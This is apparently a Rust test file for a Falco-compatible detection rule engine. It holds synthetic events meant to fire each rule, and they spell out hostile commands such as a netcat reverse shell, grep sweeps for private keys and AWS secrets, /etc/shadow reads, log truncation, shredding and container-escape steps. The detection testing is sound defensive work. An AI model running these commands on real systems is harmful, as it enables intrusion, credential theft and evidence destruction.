//! The Falco stable ruleset, loaded unchanged from the shared folder: exact counts of
//! active, disabled and skipped rules, and one event per active rule that fires it.
use serde_json::{Value, json};

use crate::{
    event::EventKind,
    rules::{Engine, JsonEvent, RuleStatus, Scratch},
};

/// Falco's stable ruleset is test data kept beside the repository (`../shared`), never
/// copied into it.
const FALCO_RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/falco-rules/falco_rules.yaml"
);

pub(super) fn engine() -> Engine {
    Engine::load_paths(&[FALCO_RULES.into()]).unwrap_or_else(|e| panic!("{e}"))
}

pub(super) fn fired(engine: &Engine, event: &Value) -> Vec<String> {
    let ev = JsonEvent::new(event).unwrap();
    let mut scratch = Scratch::default();
    let mut out = Vec::new();
    engine.evaluate(&ev, &mut scratch, &mut out);
    let mut names: Vec<String> = out.iter().map(|r| r.name.clone()).collect();
    names.sort();
    names
}

/// Merges `extra` into `base` (objects recursively).
pub(super) fn with(mut base: Value, extra: Value) -> Value {
    fn merge(a: &mut Value, b: Value) {
        match (a, b) {
            (Value::Object(a), Value::Object(b)) => {
                for (k, v) in b {
                    merge(a.entry(k).or_insert(Value::Null), v);
                }
            }
            (a, b) => *a = b,
        }
    }
    merge(&mut base, extra);
    base
}

pub(super) fn exec(name: &str, exe: &str, args: &[&str]) -> Value {
    let mut argv = vec![name.to_string()];
    argv.extend(args.iter().map(|s| s.to_string()));
    json!({
        "kind": "exec", "syscall": "execve", "time": "2025-01-01T00:00:00.000000001Z",
        "boot_ns": 20_000_000_000u64, "pid": 100, "tid": 100, "comm": name, "cgroup_id": 1,
        "ppid": 99, "uid": 0, "gid": 0, "euid": 0, "egid": 0, "loginuid": null,
        "result": 0, "error": null, "exe": exe, "filename": null, "args": argv,
        "args_truncated": false, "dirfd": -100, "at_flags": 0,
        "process": {"pid": 100, "ppid": 99, "name": name, "exe": exe, "exepath": exe,
            "args": args, "cwd": "/root", "tty": 0, "sid": 1, "vpid": 100, "uid": 0,
            "user": "root", "gid": 0, "group": "root", "loginuid": null,
            "start_boot_ns": 19_000_000_000u64, "exe_upper_layer": false},
        "ancestors": [{"pid": 99, "name": "bash", "exe": "bash", "exepath": "/usr/bin/bash", "cmdline": "bash"}]
    })
}

pub(super) fn open(name: &str, path: &str, resolved: &str, flags: u64) -> Value {
    json!({
        "kind": "open", "syscall": "openat", "time": "2025-01-01T00:00:00Z",
        "boot_ns": 20_000_000_000u64, "pid": 200, "tid": 200, "comm": name, "cgroup_id": 1,
        "path": path, "resolved_path": resolved, "dirfd": -100, "flags": flags, "mode": 0,
        "result": 3, "fd": 3, "error": null, "uid": 0,
        "process": {"pid": 200, "ppid": 199, "name": name, "exe": name, "exepath": format!("/usr/bin/{name}"),
            "args": [], "cwd": "/", "tty": 0, "sid": 1, "uid": 0, "user": "root", "gid": 0,
            "group": "root", "loginuid": null, "start_boot_ns": 1},
        "ancestors": [{"pid": 199, "name": "bash", "exe": "bash", "exepath": "/usr/bin/bash", "cmdline": "bash"}]
    })
}

pub(super) fn connect(name: &str, exe: &str, addr: &str, port: u16) -> Value {
    json!({
        "kind": "connect", "time": "2025-01-01T00:00:00Z", "boot_ns": 1, "pid": 300, "tid": 300,
        "comm": name, "cgroup_id": 1, "fd": 3, "family": "inet", "sock_type": "stream",
        "address": addr, "port": port, "unix_path": null, "result": 0, "error": null, "uid": 0,
        "process": {"pid": 300, "name": name, "exe": exe, "exepath": exe, "args": [], "uid": 0, "user": "root"},
        "ancestors": [{"pid": 299, "name": "bash", "exe": "bash", "exepath": "/usr/bin/bash", "cmdline": "bash"}]
    })
}

pub(super) fn container(extra: Value) -> Value {
    with(
        json!({"container": {"id": "4f2a6b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a",
            "short_id": "4f2a6b0c9d8e", "name": "web", "runtime": "docker", "image": "nginx:1.25",
            "image_repository": "nginx", "image_tag": "1.25", "labels": {}, "privileged": false,
            "pod": {"name": "web-0", "namespace": "prod", "uid": "u-1", "labels": {}}}}),
        extra,
    )
}

/// One of the other syscalls, by a process with the given effective capabilities.
pub(super) fn syscall(name: &str, syscall: &str, args: Value) -> Value {
    with(
        json!({
            "kind": "syscall", "syscall": syscall, "time": "2025-01-01T00:00:00Z",
            "boot_ns": 20_000_000_000u64, "pid": 400, "tid": 400, "comm": name, "cgroup_id": 1,
            "result": 0, "error": null, "uid": 0,
            "process": {"pid": 400, "ppid": 399, "name": name, "exe": name,
                "exepath": format!("/usr/bin/{name}"), "args": [], "cwd": "/root/", "tty": 0,
                "sid": 1, "uid": 0, "user": "root", "gid": 0, "group": "root",
                "loginuid": null, "start_boot_ns": 1,
                "cap_effective": "CAP_CHOWN CAP_DAC_OVERRIDE CAP_SETUID"},
            "ancestors": [{"pid": 399, "name": "bash", "exe": "bash", "exepath": "/usr/bin/bash", "cmdline": "bash"}]
        }),
        args,
    )
}

/// The engine's rules by status: active names, disabled names, `name: reason` of the
/// skipped ones.
pub(super) fn statuses(engine: &Engine) -> (Vec<String>, Vec<String>, Vec<String>) {
    let mut active = Vec::new();
    let mut disabled = Vec::new();
    let mut skipped = Vec::new();
    for s in engine.summaries() {
        match &s.status {
            RuleStatus::Active { .. } => active.push(s.name.clone()),
            RuleStatus::Disabled => disabled.push(s.name.clone()),
            RuleStatus::Skipped { reason } => skipped.push(format!("{}: {reason}", s.name)),
        }
    }
    (active, disabled, skipped)
}

const O_WRONLY: u64 = 1;
const O_TRUNC: u64 = 0o1000;

#[test]
fn falco_ruleset_counts_and_skip_reasons() {
    let engine = engine();
    let (active, disabled, skipped) = statuses(&engine);
    assert_eq!(active.len(), 25, "{active:#?}");
    assert_eq!(disabled.len(), 0);
    assert_eq!(skipped, Vec::<String>::new());
    assert_eq!(
        engine.kernel_interest().kinds().iter().collect::<Vec<_>>(),
        vec![
            EventKind::Exec,
            EventKind::Connect,
            EventKind::Open,
            EventKind::Syscall
        ]
    );
    let types = |name: &str| engine.rule(name).unwrap().event_types.clone();
    use crate::rules::EventType::*;
    assert_eq!(types("Run shell untrusted"), vec![Execve, Execveat]);
    assert_eq!(
        types("Read sensitive file untrusted"),
        vec![Open, Openat, Openat2]
    );
    // Its `outbound` macro names sendto and sendmsg too, on sockets that are not
    // connected: no successful transfer is such (see `fd.connected`), so the kernel
    // filter admits neither, and neither is attached.
    assert_eq!(
        types("Disallowed SSH Connection Non Standard Port"),
        vec![Connect, Sendto, Sendmsg]
    );
    let interest = engine.kernel_interest();
    assert!(interest.wants(Connect));
    assert!(!interest.wants(Sendto) && !interest.wants(Sendmsg));
}

/// (expected rules that fire, event) — one per active rule.
pub(super) fn fixtures() -> Vec<(Vec<&'static str>, Value)> {
    vec![
        (
            vec!["Directory traversal monitored file read"],
            with(
                open("nginx", "/var/www/../../etc/passwd", "/etc/passwd", 0),
                json!({"ancestors": [{"pid": 1, "name": "nginx"}]}),
            ),
        ),
        (
            vec![
                "Read sensitive file trusted after startup",
                "Read sensitive file untrusted",
            ],
            with(
                open("nginx", "/etc/shadow", "/etc/shadow", 0),
                json!({"boot_ns": 20_000_000_000u64, "process": {"start_boot_ns": 1_000_000_000u64}}),
            ),
        ),
        (
            vec!["Read sensitive file untrusted"],
            open("cat", "/etc/shadow", "/etc/shadow", 0),
        ),
        (
            vec!["Run shell untrusted"],
            with(
                exec("sh", "/bin/sh", &["-c", "id"]),
                json!({"ancestors": [{"pid": 99, "name": "nginx", "exe": "nginx", "exepath": "/usr/sbin/nginx", "cmdline": "nginx -g daemon off;"}]}),
            ),
        ),
        (
            vec!["System user interactive"],
            with(
                exec("ls", "/bin/ls", &["-l"]),
                json!({"process": {"user": "www-data", "uid": 33},
                       "ancestors": [{"pid": 99, "name": "bash"}, {"pid": 98, "name": "sshd"}]}),
            ),
        ),
        (
            vec!["Terminal shell in container"],
            container(with(
                exec("bash", "/bin/bash", &[]),
                json!({"process": {"tty": 34816}, "ancestors": [{"pid": 99, "name": "runc:[1:CHILD]"}]}),
            )),
        ),
        (
            vec!["Contact K8S API Server From Container"],
            container(with(
                connect("curl", "/usr/bin/curl", "10.96.0.1", 443),
                json!({"server_name": "kubernetes.default.svc.cluster.local"}),
            )),
        ),
        (
            vec!["Netcat Remote Code Execution in Container"],
            container(exec(
                "nc",
                "/bin/nc",
                &["-e", "/bin/sh", "10.0.0.1", "4444"],
            )),
        ),
        (
            vec!["Search Private Keys or Passwords"],
            exec("grep", "/bin/grep", &["-r", "BEGIN RSA PRIVATE", "/"]),
        ),
        (
            vec!["Clear Log Activities"],
            open(
                "truncate",
                "/var/log/syslog",
                "/var/log/syslog",
                O_WRONLY | O_TRUNC,
            ),
        ),
        (
            vec!["Remove Bulk Data from Disk"],
            exec("shred", "/usr/bin/shred", &["-u", "/data/db"]),
        ),
        (
            vec!["Debugfs Launched in Privileged Container"],
            container(with(
                exec("debugfs", "/sbin/debugfs", &["/dev/sda1"]),
                json!({"container": {"privileged": true}}),
            )),
        ),
        (
            vec!["Detect release_agent File Container Escapes"],
            container(with(
                open(
                    "sh",
                    "/sys/fs/cgroup/x/release_agent",
                    "/sys/fs/cgroup/x/release_agent",
                    O_WRONLY,
                ),
                json!({"process": {"cap_effective": ["CAP_DAC_OVERRIDE", "CAP_SYS_ADMIN"]}}),
            )),
        ),
        (
            vec!["Find AWS Credentials"],
            exec(
                "grep",
                "/bin/grep",
                &["-r", "aws_secret_access_key", "/root"],
            ),
        ),
        (
            vec!["Execution from /dev/shm"],
            exec("x", "/dev/shm/x", &[]),
        ),
        (
            // Run as ./x from inside /dev/shm: only proc.cwd (`/dev/shm/`) tells.
            vec!["Execution from /dev/shm"],
            with(
                exec("x", "./x", &[]),
                json!({"process": {"cwd": "/dev/shm", "exepath": "/dev/shm/x"}}),
            ),
        ),
        (
            vec!["Drop and execute new binary in container"],
            container(with(
                exec("miner", "/tmp/miner", &[]),
                json!({"process": {"exe_upper_layer": true}}),
            )),
        ),
        (
            vec!["Disallowed SSH Connection Non Standard Port"],
            connect("ssh", "/usr/bin/ssh", "203.0.113.5", 443),
        ),
        (
            vec!["Create Symlink Over Sensitive Files"],
            syscall(
                "ln",
                "symlinkat",
                json!({"target": "/etc/shadow", "linkpath": "/tmp/s", "dirfd": -100}),
            ),
        ),
        (
            vec!["Create Hardlink Over Sensitive Files"],
            syscall(
                "ln",
                "linkat",
                json!({"oldpath": "/etc/shadow", "newpath": "/tmp/h", "olddirfd": -100, "dirfd": -100, "flags": 0}),
            ),
        ),
        (
            vec!["Packet socket created in container"],
            container(syscall(
                "python3",
                "socket",
                json!({"domain": 17, "sock_type": 3, "protocol": 768, "result": 3}),
            )),
        ),
        (
            vec!["Redirect STDOUT/STDIN to Network Connection in Container"],
            container(syscall(
                "bash",
                "dup2",
                json!({"fd": 3, "newfd": 0, "result": 0, "family": "inet", "sock_type": "stream",
                       "address": "10.0.0.9", "port": 4444, "local_address": "172.17.0.2", "local_port": 40000}),
            )),
        ),
        (
            vec!["Linux Kernel Module Injection Detected"],
            container(syscall(
                "insmod",
                "finit_module",
                json!({"fd": 3, "uargs": "", "flags": 0, "result": -1, "error": "EPERM",
                       "process": {"cap_effective": "CAP_SYS_ADMIN CAP_SYS_MODULE"}}),
            )),
        ),
        (
            vec!["PTRACE attached to process"],
            syscall("gdb", "ptrace", json!({"request": 16, "target_pid": 1234})),
        ),
        (
            vec!["PTRACE anti-debug attempt"],
            syscall("malware", "ptrace", json!({"request": 0, "target_pid": 0})),
        ),
        (
            vec!["Fileless execution via memfd_create"],
            with(
                exec("payload", "memfd:payload", &[]),
                json!({"process": {"exepath": "memfd:payload (deleted)"}}),
            ),
        ),
    ]
}

#[test]
fn every_active_falco_rule_fires_on_its_fixture() {
    let engine = engine();
    let fixtures = fixtures();
    let mut covered: Vec<&str> = Vec::new();
    for (expected, event) in &fixtures {
        let mut expected: Vec<String> = expected.iter().map(|s| s.to_string()).collect();
        expected.sort();
        assert_eq!(fired(&engine, event), expected, "event: {event}");
        covered.extend(
            expected
                .iter()
                .map(|s| engine.rule(s).unwrap().name.as_str()),
        );
    }
    for rule in engine.rules() {
        assert!(
            covered.contains(&rule.name.as_str()),
            "no fixture fires '{}'",
            rule.name
        );
    }
}

#[test]
fn falco_exclusions_hold() {
    let engine = engine();
    // A shell spawned by nginx whose command line is in known_shell_spawn_cmdlines
    // (a list item written as '"sh -c uname -s 2>&1"').
    let ev = with(
        exec("sh", "/bin/sh", &["-c", "uname -s 2>&1"]),
        json!({"ancestors": [{"pid": 99, "name": "nginx"}]}),
    );
    assert_eq!(fired(&engine, &ev), Vec::<String>::new());
    // passwd (in passwd_binaries) may read /etc/shadow.
    assert!(fired(&engine, &open("passwd", "/etc/shadow", "/etc/shadow", 0)).is_empty());
    // An outbound ssh to a private address or a standard port does not fire.
    assert!(fired(&engine, &connect("ssh", "/usr/bin/ssh", "10.1.2.3", 443)).is_empty());
    assert!(fired(&engine, &connect("ssh", "/usr/bin/ssh", "203.0.113.5", 22)).is_empty());
    // The K8s API from a kube-system pod is expected.
    let ev = container(with(
        connect("curl", "/usr/bin/curl", "10.96.0.1", 443),
        json!({"server_name": "kubernetes.default.svc.cluster.local",
               "container": {"pod": {"namespace": "kube-system"}}}),
    ));
    assert!(fired(&engine, &ev).is_empty());
    // A terminal shell on the host (container.id = host) is not a container shell.
    let ev = with(
        exec("bash", "/bin/bash", &[]),
        json!({"container": {"id": "host"}, "process": {"tty": 34816}, "ancestors": [{"pid": 1, "name": "sshd"}]}),
    );
    assert!(fired(&engine, &ev).is_empty());
    // The near misses of the syscall rules: a symlink to an ordinary file, an inet
    // socket, a shell redirecting its output to a pipe (no socket behind the fd), a
    // module load without CAP_SYS_MODULE, a debugger reading memory.
    let benign = [
        syscall(
            "ln",
            "symlinkat",
            json!({"target": "/etc/hostname", "linkpath": "/tmp/s", "dirfd": -100}),
        ),
        container(syscall(
            "curl",
            "socket",
            json!({"domain": 2, "sock_type": 1, "protocol": 6, "result": 3}),
        )),
        container(syscall(
            "bash",
            "dup2",
            json!({"fd": 3, "newfd": 1, "result": 1}),
        )),
        container(syscall(
            "insmod",
            "finit_module",
            json!({"fd": 3, "uargs": "", "flags": 0, "result": -1}),
        )),
        syscall("gdb", "ptrace", json!({"request": 2, "target_pid": 1234})),
    ];
    for ev in benign {
        assert_eq!(fired(&engine, &ev), Vec::<String>::new(), "{ev}");
    }
}

#[test]
fn falco_output_is_formatted() {
    let engine = engine();
    let ev = open("cat", "/etc/shadow", "/etc/shadow", 0);
    let rule = engine.rule("Read sensitive file untrusted").unwrap();
    let alert = engine.alert(rule, &JsonEvent::new(&ev).unwrap());
    assert_eq!(
        alert.output,
        "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=<NA> \
         ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 \
         process=cat proc_exepath=/usr/bin/cat parent=bash command=cat terminal=0"
    );
    assert_eq!(alert.priority, crate::rules::Priority::Warning);
    assert_eq!(alert.output_fields["fd.name"], json!("/etc/shadow"));
    assert_eq!(alert.output_fields["proc.aname[2]"], Value::Null);
    assert_eq!(alert.output_fields["user.uid"], json!(0));
    assert_eq!(alert.time, json!("2025-01-01T00:00:00Z"));
    assert!(alert.tags.contains(&"T1555".to_string()));
}

/// Field values where Falco's rules depend on Falco's exact form.
#[test]
fn fields_take_falcos_values() {
    use crate::rules::{
        FieldValue,
        fields::resolve,
        source::{FieldSource, ResolvedField},
    };
    let value = |event: &Value, name: &str, arg: Option<&str>| -> String {
        let (info, arg) = resolve(name, arg).unwrap();
        let field = ResolvedField { id: info.id, arg };
        match JsonEvent::new(event).unwrap().field(&field) {
            FieldValue::None => "<none>".to_string(),
            v => v.to_string(),
        }
    };
    let shell = container(with(
        exec("sh", "/bin/sh", &[]),
        json!({"process": {"cwd": "/dev/shm"}}),
    ));
    assert_eq!(value(&shell, "proc.cwd", None), "/dev/shm/");
    assert_eq!(value(&shell, "container.id", None), "4f2a6b0c9d8e");
    assert_eq!(
        value(&shell, "container.full_id", None),
        "4f2a6b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a"
    );
    assert_eq!(value(&shell, "proc.aexe", Some("1")), "bash");
    assert_eq!(value(&shell, "proc.aexe", Some("0")), "/bin/sh");
    let root = with(
        exec("sh", "/bin/sh", &[]),
        json!({"process": {"cwd": "/"}, "container": {"id": "host"}}),
    );
    assert_eq!(value(&root, "proc.cwd", None), "/");
    assert_eq!(value(&root, "container.id", None), "host");
    // A connect names both ends, client first; without the local end, the server.
    let connected = with(
        connect("curl", "/usr/bin/curl", "10.0.0.1", 443),
        json!({"local_address": "172.17.0.2", "local_port": 40000}),
    );
    assert_eq!(
        value(&connected, "fd.name", None),
        "172.17.0.2:40000->10.0.0.1:443"
    );
    assert_eq!(value(&connected, "fd.lport", None), "40000");
    assert_eq!(value(&connected, "fd.cip", None), "172.17.0.2");
    let refused = connect("curl", "/usr/bin/curl", "10.0.0.1", 443);
    assert_eq!(value(&refused, "fd.name", None), "10.0.0.1:443");
    let ptrace = syscall("gdb", "ptrace", json!({"request": 0x4206, "target_pid": 9}));
    assert_eq!(value(&ptrace, "evt.arg.request", None), "PTRACE_SEIZE");
    assert_eq!(value(&ptrace, "evt.arg.pid", None), "9");
    let upper = with(
        exec("x", "/tmp/x", &[]),
        json!({"process": {"exe_upper_layer": true, "exe_from_memfd": true}}),
    );
    assert_eq!(
        value(&upper, "evt.arg.flags", None),
        "EXE_UPPER_LAYER|EXE_FROM_MEMFD"
    );
}

/// Falco's three rulesets load together, unchanged, in Falco's order (its sandbox file
/// closes a flow sequence at the key's indentation): every rule Falco enables is
/// active, the ones Falco ships disabled stay so.
#[test]
fn falco_three_rulesets_load_together() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/falco-rules/");
    let paths: Vec<std::path::PathBuf> = [
        "falco_rules.yaml",
        "falco-incubating_rules.yaml",
        "falco-sandbox_rules.yaml",
    ]
    .iter()
    .map(|f| format!("{dir}{f}").into())
    .collect();
    let engine = Engine::load_paths(&paths).unwrap_or_else(|e| panic!("{e}"));
    let (active, disabled, skipped) = statuses(&engine);
    assert_eq!(skipped, Vec::<String>::new());
    assert_eq!(active.len() + disabled.len(), 25 + 31 + 37);
    assert_eq!(active.len(), 81, "{disabled:#?}");
    for name in [
        "Container Drift Detected (chmod)",
        "Java Process Class File Download",
    ] {
        assert!(disabled.contains(&name.to_string()), "{name}");
    }
}
